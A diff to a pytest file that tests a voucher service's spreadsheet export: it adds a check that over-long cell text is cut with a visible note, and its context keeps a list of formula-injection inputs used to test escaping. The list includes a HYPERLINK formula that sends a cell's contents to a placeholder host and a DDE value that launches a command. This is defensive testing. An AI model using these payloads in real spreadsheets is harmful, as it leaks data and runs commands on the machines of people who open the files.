@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from services.voucher.spreadsheet import cell, row
+from services.voucher.spreadsheet import MAX_CELL_CHARACTERS, cell, fit_cell, row
 
 ATTACKS = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/C calc"!A0', "@SUM(A1:A9)", "-2+3",
            "=1+2", "\t=1", "\r=1", "-", "+", "=", "@", "-1e3", "+ 1", "-0x10"]
@@ -23,3 +23,12 @@ def test_anything_else_is_written_as_it_is(text: str) -> None:
 
 def test_a_row_makes_only_its_text_safe() -> None:
     assert row([1, -5, None, "=1", "PO-1", True]) == [1, -5, None, "'=1", "PO-1", True]
+
+
+def test_text_longer_than_a_cell_holds_is_cut_with_a_note_never_silently() -> None:
+    """XlsxWriter cuts a string past Excel's 32,767 characters without a word (an independent
+    review exported a 40,000-character value as 32,767)."""
+    assert fit_cell("x" * MAX_CELL_CHARACTERS) == "x" * MAX_CELL_CHARACTERS
+    cut = fit_cell("x" * 40_000)
+    assert len(cut) == MAX_CELL_CHARACTERS
+    assert cut.endswith("[cut: 40,000 characters, a cell holds 32,767; the JSON Lines export holds it whole]")
